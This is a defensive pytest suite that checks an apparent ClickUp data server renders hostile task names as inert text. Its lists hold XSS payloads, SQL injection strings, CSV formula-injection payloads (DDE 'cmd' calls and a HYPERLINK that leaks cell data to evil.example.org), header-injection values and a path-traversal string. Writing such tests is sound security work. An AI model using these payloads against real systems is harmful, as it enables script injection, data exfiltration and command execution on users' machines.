"""Names that hold HTML, SQL or a spreadsheet's formula do no harm, wherever they appear."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from urllib.parse import quote

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from playwright.sync_api import Page

from clickup_toolkit import serve
from clickup_toolkit.records import Gap, Member, Space, Task
from clickup_toolkit.serve.spreadsheets import harmless
from tests.serving import BEARER, publish_file, settings_for

HTML = [
    "<script>window.harmed = 1</script>",
    "<img src=x onerror='window.harmed = 1'>",
    "\"'><svg onload=window.harmed=1>",
    "</textarea></title></style></script><script>window.harmed=1</script>",
    "{{ 7 * 7 }}{% raw %}",
    "javascript:window.harmed=1",
    'https://example.org/"onmouseover="window.harmed=1',
]
SQL = ["'; DROP TABLE tasks; --", '" OR ""="', "%' UNION SELECT body FROM raw --", "\\"]
FORMULAS = [
    '=HYPERLINK("http://evil.example.org?x="&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "harmless;=1+1",
    "two lines\n=1+1",
]
HEADERS = [
    "a\r\nSet-Cookie: harmed=1",
    'x"; filename="harm.exe',
    "\u202egnp.exe",
    "../../etc/passwd",
    "\ud7ff\U0001f600",
]
NAMES = [*HTML, *SQL, *FORMULAS, *HEADERS]
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Serve a workspace in which everything is called something hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    rows = [
        Task(id=f"h{number}", name=name, status=name, priority=name, space_id="h", list_id="l1")
        for number, name in enumerate(NAMES)
    ]
    places = [Space("h", HTML[0]), Member("h", HTML[1])]
    gaps = [Gap("time_entries", HTML[2], "X", HTML[0], HTML[1])]
    publish_file(folder, rows=[*rows, *places], gaps=gaps)
    with serve.background(settings_for(folder)) as address:
        yield address


@pytest.fixture
def site(address: str) -> Iterator[httpx.Client]:
    """Visit it."""
    with httpx.Client(base_url=address, headers=BEARER) as client:
        yield client


PAGES = [
    "/",
    "/clickup",
    "/clickup/tasks?_size=100&_facet=name&_facet=status",
    "/clickup/spaces",
    "/clickup/spaces/h",
    "/clickup/gaps",
    "/clickup/tasks/h3",
    *(f"/clickup/tasks?_facet=name&name={quote(name)}&_search={quote(name)}" for name in HTML[:4]),
    f"/clickup?sql={quote('select ' + chr(39) + HTML[3] + chr(39) + ' as [' + HTML[0] + ']')}",
    f"/clickup?sql={quote('select :p')}&p={quote(HTML[3])}",
]
REFUSED = [
    f"/clickup?sql={quote('select ' + HTML[0])}",
    f"/clickup/{quote(HTML[0], safe='')}",
    f"/-/runs/{quote(HTML[0], safe='')}",
    f"/clickup/tasks?_sort={quote(HTML[0])}",
]


@pytest.mark.browser
def test_no_page_runs_what_a_name_holds(page: Page, address: str) -> None:
    """In the real browser no script of a name runs, and the pages' own run under the policy of the site."""
    for path in PAGES:
        page.goto(address + path[1:])
        assert page.evaluate("window.harmed") is None, path
    page.goto(f"{address}clickup/tasks?_facet=name")
    page.locator("th.col-name svg.dropdown-menu-icon").first.click()
    page.get_by_role("link", name="Sort descending").click()
    assert "name" in page.url
    assert page.evaluate("window.harmed") is None


@pytest.mark.parametrize("path", PAGES + REFUSED)
def test_no_page_holds_a_tag_of_a_name(site: httpx.Client, path: str) -> None:
    """Whatever is in a name or in an address is text in the page."""
    text = site.get(path).text
    for hostile in HTML[:4]:
        assert hostile not in text
    assert "49" not in text.partition("{{ 7")[2][:20]


def test_json_and_ndjson_are_exact(site: httpx.Client) -> None:
    """Programs get every name as it is."""
    rows = site.get("/clickup/tasks.json?_shape=array&_size=max&id__startswith=h").json()
    lines = site.get("/api/v1/tables/tasks.ndjson").text.split("\n")
    told = {row["id"]: row["name"] for row in map(json.loads, filter(None, lines))}
    wanted = {f"h{number}": name for number, name in enumerate(NAMES)}
    assert {row["id"]: row["name"] for row in rows} == wanted
    assert {key: name for key, name in told.items() if key in wanted} == wanted


@pytest.mark.parametrize(
    "path",
    [
        "/clickup/tasks.csv?_size=max",
        "/clickup/tasks.csv?_stream=on&_size=3",
        "/clickup/tasks.csv?_labels=on&_size=max&_dl=1",
        "/clickup.csv?sql=select+id,name,name+as+%5B%3D1%2B1%5D,status_ms+from+tasks",
    ],
)
def test_a_csv_holds_no_formula(site: httpx.Client, path: str) -> None:
    """No cell of a CSV begins as a formula does, wherever a spreadsheet cuts; numbers are left alone."""
    answer = site.get(path)
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    names = {row[0]: row[1] for row in rows[1:]}
    assert {f"h{number}" for number in range(len(NAMES))} <= set(names)
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(BEGINS)
            for piece in cell.replace("\r", "\n").replace("\t", "\n").replace(";", "\n").split("\n"):
                assert not piece.lstrip(" ").startswith(BEGINS)
    assert names["h0"] == HTML[0]
    assert names[f"h{NAMES.index(FORMULAS[0])}"] == "'" + FORMULAS[0]
    if "_dl" in path:
        assert answer.headers["content-disposition"] == 'attachment; filename="tasks.csv"'


def test_a_row_as_csv_holds_no_formula(site: httpx.Client) -> None:
    """A single row is no way around."""
    key = f"h{NAMES.index(FORMULAS[1])}"
    rows = list(csv.DictReader(io.StringIO(site.get(f"/clickup/tasks/{key}.csv").text)))
    assert [row["name"] for row in rows] == ["'" + FORMULAS[1]]


@given(st.text(alphabet="=+-@;,|\t\r\n a1\uff1d'\"", max_size=12))
def test_a_harmless_text_is_the_text_with_marks(text: str) -> None:
    """Only apostrophes are put in; what remains without them is the text, and nothing begins a formula."""
    found = harmless(text)
    assert isinstance(found, str)
    assert found.replace("'", "") == text.replace("'", "")
    assert not found.lstrip(" ").startswith(BEGINS)


@pytest.mark.parametrize("cell", [-5, -1.5, None, True, b"=1", "", "a-b", "a = b", "x@y.org", "1-2"])
def test_what_is_no_formula_is_left_alone(cell: object) -> None:
    """Numbers may be negative, and texts may hold the same signs further behind."""
    assert harmless(cell) == cell


def test_a_search_is_no_query(site: httpx.Client, capfd: pytest.CaptureFixture[str]) -> None:
    """A name that holds SQL, looked for, finds itself or nothing, and the table stays; no log tells of it."""
    for name in SQL:
        found = site.get("/clickup/tasks.json", params={"name": name, "_shape": "array"}).json()
        assert [row["name"] for row in found] == [name]
        assert site.get("/clickup/tasks.json", params={"name__contains": name}).status_code == 200
    assert site.get("/clickup.json?sql=delete+from+tasks").status_code == 400
    assert site.get("/clickup.json?sql=select+a_secret").status_code == 400
    printed = capfd.readouterr()
    assert "a_secret" not in printed.out + printed.err
    assert site.get("/clickup.json?sql=select+count(*)+as+n+from+tasks&_shape=array").json() == [
        {"n": len(NAMES) + 3}
    ]


def test_no_header_is_made_of_a_name(site: httpx.Client) -> None:
    """Nobody adds a header or chooses a file's name through an address."""
    for name in HEADERS:
        for path in (
            f"/clickup/tasks.csv?_dl=1&name={quote(name)}",
            f"/clickup/{quote(name, safe='')}.csv?_dl=1",
            f"/-/runs/{quote(name, safe='')}.ipynb",
            f"/api/v1/tables/{quote(name, safe='')}.parquet",
        ):
            answer = site.get(path)
            assert "harmed" not in answer.headers.get("set-cookie", "")
            assert "harm.exe" not in answer.headers.get("content-disposition", "")
            assert answer.status_code in (200, 302, 404)
            assert "harmed" not in str(answer.next_request and answer.next_request.url.host)
